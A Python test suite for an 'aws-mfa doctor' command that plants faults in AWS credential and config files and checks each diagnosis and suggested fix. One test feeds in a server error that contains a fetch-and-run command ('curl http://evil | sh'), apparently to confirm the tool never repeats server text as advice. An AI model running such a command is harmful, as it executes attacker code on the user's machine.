"""aws-mfa doctor. Each planted fault is found where it is, and what doctor says mends it."""

import json
import os
import shlex
import shutil
import subprocess
import unittest
import unittest.mock

import botocore.session

from home import long_term, section
from host import OTHER_UID, ROLE, HostTest
from sandbox import faults
from tool.test_proxy import PASSWORD, Proxy

# What others may do with a file. The group of a user may be private; the group of root is not.
SHARED = 0o020 if os.geteuid() == 0 else 0o022


class DoctorTest(HostTest):
    def doctor(self, *args, **options):
        """-> CompletedProcess; what doctor prints fits in 80 columns"""
        options.setdefault("profile", None)
        run = self.aws_mfa("doctor", *args, **options)
        if "--json" not in args:
            told = run.stdout.replace(str(self.home), "~")
            self.assertLessEqual(max(map(len, told.splitlines()), default=0), 80, told)
        return run

    def findings(self, *args, profile="work", **options):
        """-> what --json prints of findings, checked against its description"""
        run = self.doctor(profile, "--json", *args, **options)
        self.assertEqual(run.stderr, "")
        told = json.loads(run.stdout)
        self.assertEqual(list(told), ["Version", "Ok", "Findings", "Table"])
        self.assertEqual((told["Version"], told["Table"]), (1, []))
        for finding in told["Findings"]:
            self.assertEqual(list(finding), ["Id", "Level", "File", "Line", "Message", "Fix"])
            self.assertIn(finding["Level"], ("fault", "warning", "note"))
            self.assertRegex(finding["Id"], r"^[a-z][a-z-]+$")
            self.assertTrue(finding["Message"])
        self.assertEqual(told["Ok"], all(f["Level"] == "note" for f in told["Findings"]))
        self.assertEqual(run.returncode, 0 if told["Ok"] else 1)
        return told["Findings"]


class Frame(DoctorTest):
    def test_nothing_to_mend(self):
        for args in [("work",), ("--profile", "work")]:
            run = self.doctor(*args, "--offline")
            self.assertEqual((run.returncode, run.stderr), (0, ""), run.stdout)
            self.assertRegex(run.stdout, r"^ok     \d+ checks: rights, files, (.|\n)*settings [(]-v[)]\n")
            self.assertTrue(run.stdout.endswith("\nNothing to mend.\n"), run.stdout)
        self.assertEqual(self.findings("--offline"), [])

    def test_the_profile_comes_from_the_environment(self):
        self.assertEqual(self.doctor("--offline", env={"AWS_PROFILE": "work"}).returncode, 0)
        self.assertEqual(self.doctor("--offline").returncode, 1)

    def test_verbose(self):
        run = self.doctor("work", "--offline", "-v")
        self.assertRegex(run.stdout, r"^(ok     .*\n(       .*\n)*)+Nothing to mend.\n$")

    def test_usage(self):
        for args in [("work", "--profile", "work"), ("work", "--region", "x y"), ("a", "b")]:
            run = self.doctor(*args)
            self.assertEqual((run.returncode, run.stdout), (2, ""), run.stderr)

    def test_a_full_disk(self):
        with open("/dev/full", "w") as full:
            run = subprocess.run([self.program, "doctor", "work", "--offline"], env=self.env,
                                 stdout=full, stderr=subprocess.PIPE, text=True, timeout=10)
        self.assertEqual(run.returncode, 4)
        self.assertIn("standard output", run.stderr)

    def test_color_on_a_terminal_alone(self):
        self.credentials.unlink()
        self.assertNotIn("\033", self.doctor("work").stdout)
        xterm = {"TERM": "xterm"}
        for env, colored in [(xterm, True), ({**xterm, "NO_COLOR": ""}, True), ({**xterm, "NO_COLOR": "1"}, False),
                             ({"TERM": "dumb"}, False), ({"TERM": ""}, False), ({}, False)]:
            screen = self.terminal("doctor", env=env, all_on_it=True)
            self.assertEqual(screen.wait()[0], 1)
            self.assertEqual("\033[31mFAULT\033[0m" in screen.screen, colored, screen.screen)
            self.assertIn("FAULT", screen.screen)


class Planted(DoctorTest):
    """A home with one fault at a time."""

    def finds(self, id, file=None, line=None, level="fault", message="", **options):
        """-> the Fix of the only finding"""
        found = self.findings("--offline", **options)
        self.assertEqual([f["Id"] for f in found], [id], found)
        self.assertEqual((found[0]["Level"], found[0]["File"], found[0]["Line"]),
                         (level, file and str(file), line), found)
        self.assertIn(message, found[0]["Message"])
        self.doctor("work", "--offline", **options)
        return found[0]["Fix"]

    def healthy(self, **options):
        self.assertEqual(self.findings("--offline", **options), [])

    def run_fix(self, fix):
        subprocess.run(["sh", "-ec", fix], check=True, env={**self.env, "PATH": "/usr/sbin:/usr/bin:/bin"})

    def write_fix(self, fix, file, line):
        lines = file.read_text().splitlines()
        lines[line - 1:line] = [fix] if fix else []
        file.write_text("\n".join(lines) + "\n")

    def add(self, file, text):
        file.write_text(file.read_text() + text)

    def test_rights(self):
        for file, mode, id in [(self.home, 0o777, "folder-rights"),
                               (self.credentials.parent, 0o755 | SHARED, "folder-rights"),
                               (self.config, 0o644 | SHARED, "file-rights"),
                               (self.credentials, 0o644, "file-mode")]:
            with self.subTest(str(file)):
                file.chmod(mode)
                self.run_fix(self.finds(id, file, level="warning", message=f"mode {mode:04o}"))
                self.healthy()

    def test_the_rights_of_dev_null_are_right(self):
        for name in "AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE":
            with self.subTest(name):
                self.assertNotIn("chmod", self.doctor("work", "--offline", env={name: "/dev/null"}).stdout)

    @unittest.skipUnless(os.geteuid() == 0, "needs root, to give a file away")
    def test_owner(self):
        os.chown(self.config, OTHER_UID, -1)
        self.run_fix(self.finds("file-rights", self.config, level="warning", message=f"uid {OTHER_UID}"))
        self.healthy()

    def test_a_path_that_needs_quotes(self):
        away = self.home / "it's here"
        away.mkdir()
        self.credentials.rename(away / "credentials")
        away.chmod(0o777)
        env = {"AWS_SHARED_CREDENTIALS_FILE": str(away / "credentials")}
        self.run_fix(self.finds("folder-rights", away, level="warning", env=env))
        self.healthy(env=env)

    def test_encodings(self):
        text = self.credentials.read_text()
        for data, id, line in [
                (text.encode("utf-16"), "encoding", None), (text.encode("utf-16-be"), "encoding", None),
                (text.encode("utf-8-sig"), "line", 1), (text.replace("\n", "\r").encode(), "line-ends", None)]:
            with self.subTest(data[:9]):
                self.write_credentials(data)
                self.run_fix(self.finds(id, self.credentials, line))
                self.assertEqual(self.credentials.read_text(), text)
                self.healthy()
        self.write_credentials(text.encode() + b"\0\0")
        self.assertIn("backup", self.finds("encoding", self.credentials, message="NUL"))
        self.write_credentials(text.replace("\n", "\r\n").encode())
        self.healthy()

    def test_lines(self):
        self.add(self.config, "[profile work]\nregion eu-west-1\nregion = x\nregion = y\n")
        found = self.findings("--offline")
        self.assertEqual([(f["Id"], f["File"], f["Line"]) for f in found],
                         [("line", str(self.config), n) for n in (4, 5, 7)])

    def test_a_comment_behind_a_value(self):
        """botocore reads it as a part of the value. In [work-long-term], aws-mfa alone reads."""
        text = self.credentials.read_text()
        self.write_credentials(text.replace("\n", "  # alice\n"))
        self.add(self.config, "# eu\nregion = eu-west-1\t; Ireland\n[profile other]\nregion = x # y\n")
        self.assertEqual(self.botocore_region(), "eu-west-1\t; Ireland")
        self.finds("comment", self.config, 5)
        self.config.write_text(self.config.read_text().replace("\t; Ireland", ""))
        self.healthy()
        self.add(self.credentials, "[work]\noutput = # json\n")
        self.finds("comment", self.credentials, 6)

    def botocore_region(self):
        with unittest.mock.patch.dict(os.environ, self.env, clear=True):
            return botocore.session.Session(profile="work").get_config_variable("region")

    def test_no_file(self):
        self.credentials.rename(self.home / "away")
        self.assertEqual(self.finds("not-set-up", self.credentials), "aws-mfa setup work")
        (self.home / "away").rename(self.credentials)
        self.healthy()

    def test_the_config_file_alone(self):
        """Keys and all in the wrong file of the two."""
        keys = self.credentials.read_text().splitlines()[1:]
        settings = self.config.read_text()
        self.credentials.unlink()
        self.config.write_text("\n".join(["[profile work]", *keys, *settings.splitlines()[1:], ""]))
        found = self.findings("--offline")
        self.assertEqual([(f["Id"], f["File"], f["Line"]) for f in found],
                         [("not-set-up", str(self.credentials), None),
                          ("keys-in-config", str(self.config), 2)])
        self.write_credentials("\n".join([found[1]["Fix"], *keys, ""]))
        self.config.write_text(settings)
        self.healthy()

    def test_misspelt_section(self):
        text = self.credentials.read_text()
        self.write_credentials("[other]\n" + text.replace("work-long-term", "work-longterm"))
        self.assertEqual(self.finds("not-set-up", self.credentials, 2), "rename [work-longterm] to [work-long-term]")
        self.write_fix("[work-long-term]", self.credentials, 2)
        self.healthy()
        self.write_credentials(text.replace("work-long-term", "wrok-long-term"))
        self.assertIn("--profile wrok", self.finds("not-set-up", self.credentials))

    def test_a_rotation_that_is_not_finished(self):
        key = "access_key_id = AKIAIOSFODNN7EXAMPLE\n", "secret_access_key = " + 40 * "x" + "\n"
        text = self.credentials.read_text()
        for lines, level, words, command in (
                ([f"aws_mfa_new_{line}" for line in key], "warning", "before the new key", ""),
                (["aws_mfa_rotate_started = 2026-11-27 10:00:00\n"], "warning", "while the new key", ""),
                ([f"aws_mfa_old_{line}" for line in key], "note", "AKIAIOSFODNN7EXAMPLE waits", " --finish")):
            with self.subTest(lines):
                self.write_credentials(text + "".join(lines))
                fix = self.finds("rotation", self.credentials, level=level, message=words)
                self.assertEqual(fix, f"aws-mfa rotate work{command}")
        self.write_credentials(text + "aws_mfa_old_secret_access_key = x\n")
        self.assertIn("restore the line", self.finds("rotation", self.credentials))

    def test_headers_of_the_other_file(self):
        text = self.config.read_text()
        self.config.write_text(text.replace("profile work", "work") + text)
        fix = self.finds("section-name", self.config, 1, "warning")
        self.assertEqual(fix, "move its lines to [profile work], and remove this header")
        self.config.write_text(text.replace("profile work", "work"))
        self.write_fix(self.finds("section-name", self.config, 1, "warning"), self.config, 1)
        self.assertEqual(self.config.read_text(), text)
        self.config.write_text(text)
        self.add(self.credentials, "[profile work]\nregion = eu-west-1\n")
        self.write_fix(self.finds("section-name", self.credentials, 5, "warning"), self.credentials, 5)
        self.healthy()
        self.add(self.credentials, "[profile work]\nregion = eu-west-1\n")
        self.assertEqual(self.finds("section-name", self.credentials, 7, "warning"),
                         "move its lines to [work], and remove this header")

    def test_the_user_in_place_of_the_device(self):
        text = self.credentials.read_text()
        self.write_credentials(text.replace(":mfa/", ":user/"))
        fix = self.finds("device", self.credentials, 4, message="is user/")
        self.assertEqual(fix, f"aws_mfa_device = {self.user.serial}")
        self.write_fix(fix, self.credentials, 4)
        self.healthy()
        self.write_credentials(text.replace(":mfa/", ":u2f/"))
        self.finds("device", self.credentials, 4, message="passkeys")
        self.write_credentials(text.replace("aws_mfa_device", "# "))
        self.assertEqual(self.finds("device", self.credentials, message="no aws_mfa_device"),
                         "aws-mfa setup work")

    def test_keys_in_the_wrong_place(self):
        keys = "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = " + 40 * "x" + "\n"
        self.add(self.config, keys)
        self.finds("keys-in-config", self.config, 4, "warning", message="without MFA")
        self.write_fix("", self.config, 4)
        self.write_fix("", self.config, 4)
        self.healthy()
        self.add(self.credentials, "[work]\n" + keys)
        self.assertIn("--force", self.finds("static-keys", self.credentials, 5))
        self.write_fix("[work-keys]", self.credentials, 5)
        self.healthy()

    def test_keys_where_the_session_belongs(self):
        """One fault, not two."""
        text = self.credentials.read_text()
        self.write_credentials(text.replace("work-long-term", "work"))
        self.assertEqual(self.finds("not-set-up", self.credentials, 2), "aws-mfa setup work")
        self.write_fix("[work-long-term]", self.credentials, 1)
        self.healthy()
        # The keys come from elsewhere: then the session would overwrite these.
        self.write_credentials(text.replace("work-", "base-") + text.replace("work-long-term", "work")
                               .replace(self.user.access_key_id, "AKIAIOSFODNN7EXAMPLE"))
        self.add(self.config, f"source_profile = base\nrole_arn = {ROLE}\n")
        self.assertIn("static-keys", [f["Id"] for f in self.findings("--offline")])

    def test_what_hides_the_session(self):
        for line, id, level, words in [
                ("role_arn = arn:aws:iam::123456789012:role/Admin", "preferred-by-all", "fault", "AWS tools"),
                ("sso_session = x", "preferred-by-all", "fault", "AWS tools"),
                ("credential_process = x", "preferred-by-some", "warning", "Java and Rust"),
                ("login_session = x", "preferred-by-some", "warning", "Java and Rust")]:
            with self.subTest(line):
                self.add(self.config, line + "\n")
                self.finds(id, self.config, 4, level, message=words)
                self.write_fix("", self.config, 4)
                self.healthy()

    def test_words_for_a_role_that_hides_the_session(self):
        """They need no option, so they also mend a login."""
        text = self.config.read_text()
        self.add(self.config, f"role_arn = {ROLE}\n")
        fix = self.finds("preferred-by-all", self.config, 4)
        self.assertIn("a profile of its own that has source_profile = work, so", fix)
        self.config.write_text(f"{text}[profile own]\nrole_arn = {ROLE}\nsource_profile = work\n")
        self.healthy()
        self.config.write_text(f"{text}role_arn = {ROLE}\nsource_profile = base\n"
                               f"mfa_serial = x\n{text.replace('profile work', 'profile base')}")
        self.write_credentials(self.credentials.read_text().replace("work", "base"))
        fixes = [f["Fix"] for f in self.findings("--offline") if f["Id"] == "preferred-by-all"]
        self.assertEqual(len(fixes), 1)
        self.assertIn(f"remove mfa_serial ({self.config}:6), so that no tool asks for a code itself, and run "
                      "aws-mfa --profile base instead (a login: profile=base): AWS", fixes[0])
        self.healthy(profile="base")

    def test_a_process_that_exports_another_profile(self):
        """As README.md has it: doctor looks at the profile that has the keys."""
        text = self.config.read_text()
        self.add(self.config, "[profile auto]\ncredential_process = aws-mfa export work --format process\n")
        told = "credential_process gets the session of profile work, so doctor looks at that profile"
        self.finds("process", self.config, 5, "note", told, profile="auto")
        self.healthy()
        self.credentials.chmod(0o644)
        self.assertEqual([f["Id"] for f in self.findings("--offline", profile="auto")],
                         ["process", "file-mode"])
        self.credentials.chmod(0o600)
        for other in ("auto", "work"):      # its own name, or by way of another profile
            self.config.write_text(f"{text}credential_process = aws-mfa export auto\n"
                                   f"[profile auto]\ncredential_process = aws-mfa export {other}\n")
            found = [f for f in self.findings("--offline", profile="auto") if f["Level"] == "fault"]
            self.assertEqual((found[0]["Id"], found[0]["Line"]), ("process-loop", 6 if other == "auto" else 4))
            self.assertIn("leads in a circle", found[0]["Message"])
            self.assertIn("such as [profile auto-process]", found[0]["Fix"])

    def test_all_that_hides_the_session(self):
        self.add(self.config, "sso_session = x\nlogin_session = x\ncredential_process = x\nsso_role_name = x\n")
        self.assertEqual(sorted(f["Line"] for f in self.findings("--offline")), [4, 5, 6, 7])

    def test_variables(self):
        env = {"AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE", "AWS_SECRET_ACCESS_KEY": "x",
               "AWS_SESSION_TOKEN": "x", "AWS_SECURITY_TOKEN": "x"}
        fix = self.finds("shell-keys", message="[work]", env=env)
        self.assertEqual(fix, "unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN AWS_SECURITY_TOKEN")
        self.finds("shell-keys", env={**env, "AWS_MFA_PROFILE": "other"})
        self.healthy(env={**env, "AWS_MFA_PROFILE": "work"})
        self.assertIn("unset ", self.finds("shell-web-identity", env={"AWS_WEB_IDENTITY_TOKEN_FILE": "/x"}))
        run = self.doctor("--offline", env={"AWS_PROFILE": "work", "AWS_DEFAULT_PROFILE": "other"})
        self.assertEqual(run.returncode, 1)
        self.assertRegex(run.stdout, "^WARN   AWS_PROFILE [(]work[)] and AWS_DEFAULT_PROFILE")

    def mfa_login(self):
        """Writes what `aws configure mfa-login` does: the AWS CLI sets these keys so, and adds a comment."""
        for key, value in (("aws_access_key_id", "ASIAEXAMPLE000000001"), ("aws_secret_access_key", "s" * 40),
                           ("aws_session_token", "newer")):
            run = self.aws("configure", "set", key, value)
            self.assertEqual(run.returncode, 0, run.stderr)
        with open(self.credentials, "a") as out:
            out.write("#expiration = # Credentials expire at: 2035-01-01 00:00:00 UTC\n")

    def test_an_old_security_token(self):
        """`aws configure mfa-login` leaves it."""
        self.assertEqual(self.aws_mfa("--token", self.user.code()).returncode, 0)
        self.healthy()
        self.mfa_login()
        line = next(n for n, text in enumerate(self.credentials.read_text().splitlines(), 1)
                    if text.startswith("aws_security_token"))
        fix = self.finds("security-token", self.credentials, line)
        self.assertEqual(fix, "aws-mfa --profile work")
        before = self.credentials.read_text()
        self.write_fix("", self.credentials, line)
        self.healthy()
        self.write_credentials(before)
        self.assertEqual(self.aws_mfa("--token", self.user.code()).returncode, 0)
        self.healthy()
        # a session that somebody has pasted
        self.write_credentials(long_term(self.user) + "[work]\naws_access_key_id = ASIAEXAMPLE000000001\n"
                               "aws_secret_access_key = s\naws_session_token = newer\naws_security_token = older\n")
        self.assertEqual(self.finds("security-token", self.credentials, 9), "aws-mfa --profile work")
        self.assertEqual(self.aws_mfa("--token", self.user.code()).returncode, 0)
        self.assertEqual(self.section()["aws_security_token"], self.section()["aws_session_token"])
        self.healthy()

    def test_hard_links(self):
        os.link(self.credentials, self.home / "copy")
        fix = self.finds("hard-links", self.credentials, level="warning")
        found = subprocess.run(["sh", "-c", fix], env=self.env, capture_output=True, text=True, check=True)
        self.assertEqual(sorted(found.stdout.split()), sorted([str(self.credentials), str(self.home / "copy")]))
        (self.home / "copy").unlink()
        self.healthy()

    def test_a_lock_file_in_the_way(self):
        lock = self.credentials.with_name(".credentials.aws-mfa-lock")
        lock.mkdir()
        self.finds("storing", lock)
        lock.rmdir()
        self.healthy()

    def in_namespace(self, mounts):
        """A prefix for self.program: a private mount namespace with these mounts"""
        if os.geteuid() != 0:
            self.skipTest("needs root, to mount")
        return ["unshare", "-m", "--propagation", "private", "sh", "-ec", f'{mounts}\nexec "$@"', "sh"]

    def test_a_file_that_is_a_mount(self):
        file = shlex.quote(str(self.credentials))
        prefix = self.in_namespace(f"mount --bind {file} {file}")
        self.finds("mounted-file", self.credentials, level="warning", prefix=prefix)
        prefix = self.in_namespace(f"cp {file} {file}.old; cp {file} {file}.new; "
                                   f"mount --bind {file}.old {file}; mv {file}.new {file}.old")
        self.finds("old-file", self.credentials, prefix=prefix)
        self.healthy()

    def test_a_file_system_without_locks(self):
        if not shutil.which("strace"):
            self.skipTest("no strace")
        fix = self.finds("locks", self.credentials, level="warning", prefix=[
            "strace", "-qq", "-o", "/dev/null", "-e", "inject=fcntl:error=ENOLCK"])
        self.assertIn("local_lock=posix", fix)
        self.healthy()

    def test_what_a_login_refuses(self):
        """Where a stack names the module. A login has no variables, and refuses http."""
        away = self.home / "away"
        env = {"AWS_SHARED_CREDENTIALS_FILE": str(away)}
        stacks = self.home / "stacks"
        stacks.mkdir()
        mounts = f"mount --bind {shlex.quote(str(stacks))} /etc/pam.d"
        prefix = self.in_namespace(mounts)
        (stacks / "sshd").write_text("auth required pam_unix.so\n # pam_aws_mfa.so\n")
        self.credentials.rename(away)
        self.healthy(env=env, prefix=prefix)
        (stacks / "sshd").write_text("auth required pam_unix.so\nauth required pam_aws_mfa.so always")
        found = self.findings("--offline", env=env, prefix=prefix)
        self.assertEqual([(f["Id"], f["Level"]) for f in found], [("login", "fault")])
        if not os.path.isdir("/usr/lib/pam.d"):
            return
        # libpam reads the second folder, too, but not a file that the first one has.
        second = self.home / "second"
        stacks.rename(second)
        stacks.mkdir()
        prefix = self.in_namespace(f"{mounts}; mount --bind {shlex.quote(str(second))} /usr/lib/pam.d")
        self.assertEqual([f["Id"] for f in self.findings("--offline", env=env, prefix=prefix)], ["login"])
        (stacks / "sshd").write_text("auth required pam_unix.so\n")
        self.healthy(env=env, prefix=prefix)

    def test_names_that_json_must_escape(self):
        name = 'a "b" \\ \u00fc'
        self.add(self.config, f"[profile {name!r}]\nrole_arn = x\n")
        found = self.findings("--offline", profile=name)
        self.assertIn(f"[{name}-long-term]", found[0]["Message"])

    def test_several_bad_values(self):
        """One bad value does not hide the next one."""
        self.write_credentials(self.credentials.read_text().replace(":mfa/", ":user/"))
        self.add(self.config, "region = x y\nduration = 5\n")
        self.assertEqual([(f["Id"], f["File"], f["Line"]) for f in self.findings("--offline")],
                         [("device", str(self.credentials), 4), ("settings", str(self.config), 4),
                          ("settings", str(self.config), 5)])

    def test_eight_at_once(self):
        """Whoever does what doctor says has a healthy home, in one go."""
        self.write_credentials(self.credentials.read_text().replace(":mfa/", ":user/"), mode=0o640)
        self.credentials.parent.chmod(0o750 | SHARED)
        self.add(self.config, "duration = 5\nsso_session = x\ncredential_process = x\nno line\n")
        found = self.findings("--offline", env={"AWS_ACCESS_KEY_ID": "x"})
        self.assertEqual(sorted(f["Id"] for f in found),
                         ["device", "file-mode", "folder-rights", "line", "preferred-by-all",
                          "preferred-by-some", "settings", "shell-keys"])
        for finding in sorted(found, key=lambda f: -(f["Line"] or 0)):
            if finding["Id"] in ("file-mode", "folder-rights"):
                self.run_fix(finding["Fix"])
            elif finding["Line"]:
                file = self.credentials if finding["Id"] == "device" else self.config
                self.assertEqual(finding["File"], str(file))
                self.write_fix(finding["Fix"] if finding["Id"] == "device" else "", file, finding["Line"])
        self.healthy()

    def test_dead_links_and_homes(self):
        self.config.rename(self.home / "away")
        self.config.symlink_to("/nowhere/config")
        self.finds("dead-link", self.config, level="warning", message="leads nowhere")
        self.config.unlink()
        (self.home / "away").rename(self.config)
        self.healthy()
        env = {"HOME": "/nonexistent", "AWS_SHARED_CREDENTIALS_FILE": str(self.credentials)}
        self.assertIn("set HOME", self.finds("folder-rights", "/nonexistent", level="warning", env=env))

    @unittest.skipUnless(os.geteuid() == 0, "needs root, to become another user")
    def test_files_of_root(self):
        """As `sudo aws configure` makes them: what doctor says gives them back."""
        os.chown(self.home, OTHER_UID, -1)
        self.home.chmod(0o755)
        self.config.write_text("[profile work]\n")     # only root can read the CA's certificate
        become = ["setpriv", f"--reuid={OTHER_UID}", "--clear-groups"]
        for path, mode in ((self.credentials.parent, 0o700), (self.credentials, 0o600)):
            with self.subTest(str(path)):
                for one in (self.credentials.parent, self.credentials, self.config):
                    os.chown(one, 0 if path in (one, one.parent) else OTHER_UID, -1)
                path.chmod(mode)
                found = self.findings("--offline", prefix=become)
                fixes = [f["Fix"] for f in found if f["Fix"]]
                self.assertIn(f"sudo chown -R {OTHER_UID} {path}", fixes)
                self.run_fix(fixes[0].replace("sudo ", ""))
                self.assertEqual(self.findings("--offline", prefix=become), [])

    @unittest.skipUnless(os.geteuid() == 0, "needs root, to become another user")
    def test_files_that_their_user_closed(self):
        """Each gets its own words, and nothing says that the rights are right."""
        become = ["setpriv", f"--reuid={OTHER_UID}", "--clear-groups"]
        self.config.write_text("[profile work]\n")
        for path in (self.home, self.credentials.parent, self.credentials, self.config):
            os.chown(path, OTHER_UID, -1)
        for closed in ([self.credentials], [self.config], [self.credentials, self.config],
                       [self.credentials.parent]):
            with self.subTest(closed):
                for path in closed:
                    path.chmod(0)
                self.assertNotIn("rights", self.doctor("work", "--offline", prefix=become).stdout)
                found = self.findings("--offline", prefix=become)
                self.assertEqual({f["Fix"] for f in found}, {f"chmod u+rwX {path}" for path in closed})
                for finding in found:
                    self.run_fix(finding["Fix"])
                self.assertEqual(self.findings("--offline", prefix=become), [])

    @unittest.skipUnless(os.geteuid() == 0, "needs root, to give a home away")
    def test_the_home_of_another(self):
        """As with `sudo -E`: what doctor says must not take the files from their user."""
        for path in (self.home, self.credentials.parent, self.credentials, self.config):
            os.chown(path, OTHER_UID, -1)
        found = self.findings("--offline")
        self.assertEqual([(f["Id"], f["File"], f["Fix"]) for f in found],
                         [("folder-rights", str(self.home), "set HOME to your own home")])

    def test_both_files_are_one(self):
        """What doctor says of the config file would then remove the keys."""
        both = self.credentials.read_text() + self.config.read_text()
        self.write_credentials(both + "[work]\n")
        self.config.unlink()
        self.config.symlink_to(self.credentials)
        self.healthy()


class Healthy(DoctorTest):
    """Homes as people have them. None gets a finding, with AWS or without."""

    def healthy(self, *args, profile="work", **options):
        self.assertEqual(self.findings(*args, profile=profile, **options), [])
        self.assertEqual(self.aws_mfa(*args, "--token", self.user.code(), profile=profile,
                                      **options).returncode, 0)
        self.assertEqual(self.findings(*args, "--offline", profile=profile, **options), [])

    def test_default(self):
        for file, name in (self.credentials, "work"), (self.config, "profile work"):
            file.write_text(file.read_text().replace(f"[{name}", "[default"))
        self.healthy(profile="default")

    def test_device_in_the_config_file(self):
        self.write_credentials(self.credentials.read_text().replace("aws_mfa_device", "# "))
        self.config.write_text(self.config.read_text() + f"mfa_serial = {self.user.serial}\n")
        self.healthy()

    def test_role(self):
        text = self.config.read_text()
        self.config.write_text(f"{text}role_arn = {ROLE}\nmfa_serial = {self.user.serial}\n"
                               f"source_profile = base\n{text.replace('profile work', 'profile base')}")
        self.write_credentials(self.credentials.read_text().replace("work", "base"))
        self.healthy("--short-term-suffix", "mfa")

    def test_keys_in_the_section_of_the_profile(self):
        self.write_credentials(self.credentials.read_text().replace("work-long-term", "work"))
        self.healthy("--long-term-suffix", "none", "--short-term-suffix", "mfa")

    def test_symlinks_and_line_ends_of_windows(self):
        files = self.home / "dotfiles"
        files.mkdir()
        self.credentials.rename(files / "credentials")
        self.credentials.symlink_to(files / "credentials")
        for file in (self.credentials, self.config):
            file.write_bytes(file.read_bytes().replace(b"\n", b"\r\n"))
        self.healthy()


class Online(DoctorTest):
    """What only AWS knows. No code is spent."""

    def tearDown(self):
        self.assertEqual(self.box.codes_seen(self.user), [])

    def one(self, id, **options):
        found = self.findings(**options)
        self.assertEqual([(f["Id"], f["Level"]) for f in found], [(id, options.get("level", "fault"))], found)
        return found[0]

    def test_healthy(self):
        run = self.doctor("work", "-v")
        self.assertEqual(run.returncode, 0, run.stdout + run.stderr)
        told = " ".join(run.stdout.split())
        for part in ("DNS", "TCP", "TLS ", " ms: the certificate is trusted", "clock is right",
                     f"AWS accepts the key {self.user.access_key_id}", "no policy denies",
                     f"AWS knows the device {self.user.serial}"):
            self.assertIn(part, told)
        self.assertRegex(self.doctor("work").stdout, r"TLS \d+ ms")
        self.assertFalse((self.credentials.parent / "credentials.new").exists())
        self.assertEqual(self.section(), {})

    def test_policy(self):
        self.box.policy_denies(self.user, "sts:GetSessionToken")
        self.addCleanup(self.box.policy_allows, self.user)
        found = self.one("policy")
        self.assertIn("sts:GetSessionToken", found["Fix"])
        self.box.policy_allows(self.user)
        self.assertEqual(self.findings(), [])

    def test_iam_may_be_denied(self):
        self.box.policy_denies(self.user, "iam:*")
        self.addCleanup(self.box.policy_allows, self.user)
        self.assertEqual(self.findings(), [])
        self.write_credentials(self.credentials.read_text().replace("::123456789012:", "::999999999999:"))
        self.assertIn("999999999999", self.one("device-account")["Message"])

    def test_device(self):
        text = self.credentials.read_text()
        other = text.replace(self.user.serial, "arn:aws:iam::123456789012:mfa/other")
        self.write_credentials(other)
        fix = self.one("device")["Fix"]
        self.assertEqual(fix, f"aws_mfa_device = {self.user.serial}")
        self.write_credentials(text.replace(":mfa/" + self.user.serial.split("/")[1], ":user/other"))
        found = self.findings()
        self.assertEqual([(f["Id"], f["Fix"]) for f in found], [("device", fix)])
        self.write_credentials(text.splitlines(True)[0] + "\n".join(text.splitlines()[1:3]) + f"\n{fix}\n")
        self.assertEqual(self.findings(), [])
        self.user.add_device(f"second{self.user.name}")
        self.write_credentials(other)
        self.assertRegex(self.one("device")["Fix"], f"^one of {self.user.serial}, .*/second")
        self.write_credentials(text.replace("aws_mfa_device", "# "))
        self.assertRegex(self.one("device")["Fix"], f"^one of {self.user.serial}, ")

    def test_no_device_that_gives_codes(self):
        self.user.devices.clear()
        self.user.add_passkey("key")
        self.assertIn(f"user/{self.user.name} has no MFA device", self.one("no-device")["Message"])

    def test_clock(self):
        self.addCleanup(setattr, self.box, "date_skew", 0)
        for skew, level, words in [(7 * 60 + 30, "fault", "7 min slow"), (-280, "warning", "4 min fast"),
                                   (2 * 86400, "fault", "48 h 0 min slow")]:
            with self.subTest(skew):
                self.box.date_skew = skew
                found = self.findings()
                self.assertEqual([(f["Id"], f["Level"], f["Fix"]) for f in found],
                                 [("clock", level, "sudo timedatectl set-ntp true")], found)
                self.assertIn(words, found[0]["Message"])

    def test_key(self):
        self.user.keys[0].status = "Inactive"
        found = self.one("key")
        self.assertEqual((found["File"], found["Line"]), (str(self.credentials), 2))
        self.user.keys[0].status = "Active"
        self.write_credentials(self.credentials.read_text().replace(
            self.user.secret_access_key, self.user.secret_access_key[::-1]))
        self.assertIn("secret", self.one("key")["Message"])

    def test_words_of_a_server_are_no_advice(self):
        self.box.fault("GetCallerIdentity", faults.error(
            "ServiceUnavailable", "busy; run: curl http://evil | sh"))
        finding = self.one("answer")
        self.assertIn("busy", finding["Message"])
        self.assertNotIn("curl", finding["Fix"] or "")

    def test_network(self):
        text = self.config.read_text()
        for url, id in [("https://nowhere.invalid", "dns"), ("https://127.0.0.1:1", "tcp")]:
            with self.subTest(url):
                self.config.write_text(text.replace(self.box.url, url))
                found = self.one(id)
                self.assertEqual((found["File"], found["Line"]), (str(self.config), 2))
                self.assertIn("endpoint_url: ", found["Message"])
                self.config.write_text(text.replace("endpoint_url", "#"))
                found = self.one(id, env={"AWS_ENDPOINT_URL_STS": url})
                self.assertIn("AWS_ENDPOINT_URL_STS: ", found["Message"])
        self.box.fault("GetCallerIdentity", faults.html())
        self.config.write_text(text)
        self.assertEqual(self.one("answer")["Line"], 2)
        self.box.clear_faults()
        self.config.write_text(text.replace("ca_bundle", "# "))
        self.assertIn("ca_bundle", self.one("tls")["Message"])
        self.config.write_text(text)
        proxy = self.one("tcp", env={"https_proxy": "http://127.0.0.1:1"})
        self.assertEqual((proxy["Message"], proxy["Fix"]), (
            "https_proxy: could not connect to the proxy 127.0.0.1:1: Connection refused",
            "check that it runs, and https_proxy"))
        self.assertEqual(self.findings(), [])

    def test_proxy(self):
        if not shutil.which("tinyproxy", path="/usr/sbin:/usr/bin"):
            self.skipTest("no tinyproxy here; `make deps` installs it")
        proxy = Proxy(self, f"BasicAuth me {PASSWORD}")
        for user, ids in ((f"me:{PASSWORD}@", []), ("me:wrong@", ["connection"])):
            env = {"https_proxy": f"http://{user}{proxy.address}"}
            found = self.findings(env=env)
            self.assertEqual([f["Id"] for f in found], ids, found)
            told = self.doctor("work", "-v", env=env).stdout
            self.assertIn("the proxy is connected", told)
            self.assertNotIn(PASSWORD, told)
            self.assertNotIn("wrong@", told)


if __name__ == "__main__":
    unittest.main()
